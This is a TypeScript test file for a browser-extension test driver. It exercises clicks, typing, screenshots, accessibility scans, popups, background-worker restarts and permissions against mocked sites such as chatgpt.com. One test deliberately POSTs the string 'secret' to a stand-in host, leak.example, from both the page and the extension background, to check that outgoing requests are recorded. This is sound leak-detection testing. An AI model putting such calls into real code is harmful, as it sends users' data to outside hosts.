/** The driver's own test: every method of the interface, on both browsers, with a throw-away extension. */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Browser, browserNames, CHIP, launch, type Page } from './driver';
import { type FixtureServer, start } from './fixture-server';
import { writeSampleExtension } from './sample-extension';

const output = (root: ShadowRoot) => root.querySelector('output')?.textContent;

describe.each(browserNames)('%s', (name) => {
  let folder: string;
  let server: FixtureServer;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'many-hands-driver-'));
    server = await start();
    const extension = await writeSampleExtension(join(folder, 'one'), name, '1.0.0');
    await writeSampleExtension(join(folder, 'two'), name, '1.1.0');
    browser = await launch(name, {
      server,
      extension,
      colorScheme: 'dark',
      language: 'fr',
      viewport: { width: 1000, height: 700 },
    });
    page = await browser.open('https://chatgpt.com/');
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await rm(folder, { recursive: true, force: true });
  });

  it('is the real host, in the language, colours and size asked for', async () => {
    expect(await page.url()).toBe('https://chatgpt.com/');
    expect(await page.evaluate('location.hostname')).toBe('chatgpt.com');
    expect(await page.evaluate((a: number, b: { c: number }) => Promise.resolve(a + b.c), 1, { c: 2 })).toBe(3);
    expect(await page.evaluate(() => navigator.language)).toBe('fr');
    expect(await page.evaluate(() => matchMedia('(prefers-color-scheme: dark)').matches)).toBe(true);
    expect(await page.evaluate(() => [innerWidth, innerHeight])).toEqual([1000, 700]);
    await expect(page.evaluate(() => Promise.reject(new Error('thrown in the page')))).rejects.toThrow(
      'thrown in the page',
    );
  });

  it('reads and clicks inside a closed root with the real mouse', async () => {
    await page.waitInShadow(CHIP, () => true);
    expect(await page.onHost(CHIP, (host) => host.shadowRoot)).toBe(null);
    expect(await page.inShadow(CHIP, (root) => root.querySelector('output')?.dataset.language)).toBe('fr');
    await page.click(CHIP, 'button');
    expect(await page.waitInShadow(CHIP, output)).toBe('answer 1 of 1.0.0');
    expect(await page.inShadow(CHIP, (root) => root.querySelector('output')?.dataset.trusted)).toBe('true');
    await expect(page.inShadow('no-such-host', output)).rejects.toThrow('no-such-host');
  });

  it('types and presses real keys', async () => {
    await page.click(CHIP, 'input');
    await page.type('Née 7');
    expect(await page.inShadow(CHIP, (root) => root.querySelector('input')?.value)).toBe('Née 7');
    await page.press('Shift+ArrowLeft');
    expect(await page.inShadow(CHIP, (root) => root.querySelector('output')?.dataset.key)).toBe('Shift+ArrowLeft true');
    await page.press('Tab');
    expect(await page.inShadow(CHIP, (root) => root.activeElement?.tagName)).toBe('BUTTON');
    await page.press('Enter');
    expect(
      await page.waitInShadow(CHIP, (root) => root.querySelector('output')?.textContent?.startsWith('answer 2')),
    ).toBe(true);
  });

  it('clicks, hovers, takes pictures and changes the size of an ordinary page', async () => {
    const article = await browser.open('https://example.org/');
    const height = await article.evaluate(() => {
      const button = document.createElement('button');
      button.id = 'low';
      button.textContent = 'Low';
      button.addEventListener('click', (event) => {
        document.title = `clicked ${event.isTrusted}`;
      });
      document.body.append(button);
      return document.documentElement.scrollHeight;
    });
    await article.clickPage('#low');
    expect(await article.waitFor(() => document.title === 'clicked true')).toBe(true);
    await article.moveMouse(500, 300);
    expect(await article.waitFor(() => document.querySelector('main:hover') !== null)).toBe(true);

    const picture = join(folder, 'page.png');
    const size = async () => {
      const bytes = await readFile(picture);
      return [bytes.readUInt32BE(16), bytes.readUInt32BE(20)];
    };
    await article.screenshot(picture);
    expect(await size()).toEqual([1000, 700]);
    await article.screenshot(picture, { fullPage: true });
    expect((await size())[1]).toBeGreaterThanOrEqual(height);
    await article.setViewport(320, 560);
    expect(await article.evaluate(() => [innerWidth, innerHeight])).toEqual([320, 560]);
    await article.screenshot(picture);
    expect(await size()).toEqual([320, 560]);
    await article.reload();
    expect(await article.evaluate(() => document.title)).toBe('A short history of a river');
    await article.close();
  });

  it('runs axe on a closed root and on a whole page', async () => {
    const good = await page.axe(CHIP);
    expect(good.passes.length).toBeGreaterThan(0);
    expect(good.violations).toEqual([]);
    await page.inShadow(CHIP, (root) => root.querySelector('button')?.replaceChildren());
    expect((await page.axe(CHIP)).violations.map((violation) => violation.id)).toContain('button-name');
    expect(await page.onHost(CHIP, (host) => host.shadowRoot)).toBe(null);
    expect((await page.axe()).passes).toContain('document-title');
  });

  it('opens the real popup over a page', async () => {
    expect(await browser.inPopup(page, () => document.querySelector('h1')?.textContent)).toBe('Sample');
    expect(await browser.inPopup(page, (suffix: string) => document.title + suffix, '!')).toBe('Sample popup!');
    const popup = await browser.openPopup(page);
    expect(await popup.evaluate(() => document.title)).toBe('Sample popup');
    expect(await popup.evaluate('typeof chrome.runtime.sendMessage')).toBe('function');
    expect((await popup.axe()).passes).toContain('document-title');
    const picture = join(folder, 'popup.png');
    await popup.screenshot(picture);
    expect((await readFile(picture)).readUInt32BE(16)).toBe(await popup.evaluate(() => innerWidth));
    await popup.close();
  });

  it('speaks with the background and kills it', async () => {
    expect(await browser.inBackground('return sample + " " + (await chrome.storage.local.get()).missing')).toBe(
      'background undefined',
    );
    expect(await browser.backgroundRuns()).toBe(true);
    await browser.killBackground();
    expect(await browser.backgroundRuns()).toBe(false);
    await page.reload();
    await page.click(CHIP, 'button');
    expect(await page.waitInShadow(CHIP, output)).toBe('answer 1 of 1.0.0');
    for (let time = 0; time < 3; time += 1) {
      await browser.killBackground();
      await browser.killBackground();
      expect(await browser.inBackground('return sample')).toBe('background');
    }
    await expect(browser.inBackground('throw new Error("from the background")')).rejects.toThrow('from the background');
  });

  it('deletes a database which the background holds open', async () => {
    const databases = 'return (await indexedDB.databases()).map((database) => database.name)';
    await page.click(CHIP, 'button');
    await page.waitInShadow(CHIP, output);
    expect(await browser.inBackground(databases)).toEqual(['sample']);
    await browser.deleteDatabase('sample');
    expect(await browser.inBackground(databases)).toEqual([]);
  });

  it('withdraws one host and gives it back', async () => {
    const granted = 'return chrome.permissions.contains({ origins: ["https://chatgpt.com/*"] })';
    await browser.setHostAccess(['https://chatgpt.com/*'], false);
    expect(await browser.inBackground(granted)).toBe(false);
    await page.goto('https://claude.ai/');
    await page.waitInShadow(CHIP, () => true);
    await page.goto('https://chatgpt.com/');
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
    expect(await page.has(CHIP)).toBe(false);
    await browser.setHostAccess(['https://chatgpt.com/*'], true);
    expect(await browser.inBackground(granted)).toBe(true);
    await page.reload();
    await page.waitInShadow(CHIP, () => true);
  });

  it('records what leaves the browser: a deliberate leak is seen', async () => {
    server.clear();
    await page.evaluate(() =>
      fetch('https://leak.example/stolen?x=1', { method: 'POST', body: 'secret' }).catch(() => undefined),
    );
    await page.evaluate(() => fetch('https://leak.example/again', { mode: 'no-cors' }).catch(() => undefined));
    await browser.inBackground('await fetch("https://leak.example/background").catch(() => undefined)');
    expect(browser.requests()).toContainEqual(
      expect.objectContaining({ host: 'leak.example', path: '/stolen?x=1', method: 'POST' }),
    );
    expect(browser.requests()).toContainEqual(
      expect.objectContaining({ host: 'leak.example', path: '/background', method: 'GET' }),
    );
  });

  it('reaches into a page which forbids everything', async () => {
    const strict = await browser.open('https://chatgpt.com/strict');
    expect(await strict.evaluate(() => document.title)).toBe('ChatGPT (strict policy)');
    await strict.click(CHIP, 'button');
    expect(await strict.waitInShadow(CHIP, output)).toMatch(/^answer /);
    expect((await strict.axe(CHIP)).passes.length).toBeGreaterThan(0);
    expect((await strict.axe()).passes).toContain('document-title');
    await strict.close();
  });

  it('serves the pages of test/pages by host', async () => {
    await page.goto('https://www.midjourney.com/explore');
    expect(await page.evaluate(() => document.title)).toBe('Midjourney');
    await page.goto('http://example.org/anything');
    expect(await page.evaluate(() => document.title)).toBe('A short history of a river');
    expect(browser.requests()).toContainEqual(
      expect.objectContaining({ host: 'example.org', path: '/anything', method: 'GET' }),
    );
    await page.goto('https://chatgpt.com/hostile');
    expect(
      await page.waitFor(() => (window as unknown as { fixture: { over: boolean; removed: string[] } }).fixture.over),
    ).toBe(true);
    expect(await page.evaluate('fixture.removed')).toContain('div');
    expect(await page.has(CHIP)).toBe(false);
    await page.goto('https://chatgpt.com/');
    await page.clickPage('#chat-two');
    expect(await page.url()).toBe('https://chatgpt.com/c/22222222-bbbb-4000-8000-000000000002');
    await page.clickPage('#prompt-textarea');
    await page.type('Hello');
    expect(await page.evaluate(() => document.querySelector('#prompt-textarea')?.textContent)).toBe('Hello');
    expect(await page.evaluate('fixture.stream(1)')).toBe(60);
    expect((await page.axe()).violations).toEqual([]);
  });

  it('updates the extension under an open page, whose script is then an orphan or replaced', async () => {
    await browser.updateExtension(join(folder, 'two'));
    expect(await browser.inBackground('return chrome.runtime.getManifest().version')).toBe('1.1.0');
    await page.click(CHIP, 'button');
    expect(await page.waitInShadow(CHIP, output)).toMatch(name === 'chromium' ? /^orphan: / : /^answer 1 of 1\.1\.0$/);
    await page.reload();
    await page.click(CHIP, 'button');
    expect(await page.waitInShadow(CHIP, output)).toMatch(/^answer \d of 1\.1\.0$/);
  });

  it('starts without an extension, with the language it comes with, and with forced colours', async () => {
    const bare = await launch(name, { server, forcedColors: true });
    try {
      const plain = await bare.open('https://chatgpt.com/');
      expect(await plain.evaluate(() => [innerWidth, innerHeight])).toEqual([1280, 800]);
      expect(await plain.evaluate(() => matchMedia('(forced-colors: active)').matches)).toBe(true);
      expect(await plain.evaluate(() => matchMedia('(prefers-color-scheme: light)').matches)).toBe(true);
      expect(await plain.evaluate(() => navigator.language)).toBe('en-US');
      expect(await plain.has(CHIP)).toBe(false);
    } finally {
      await bare.close();
    }
  });
});
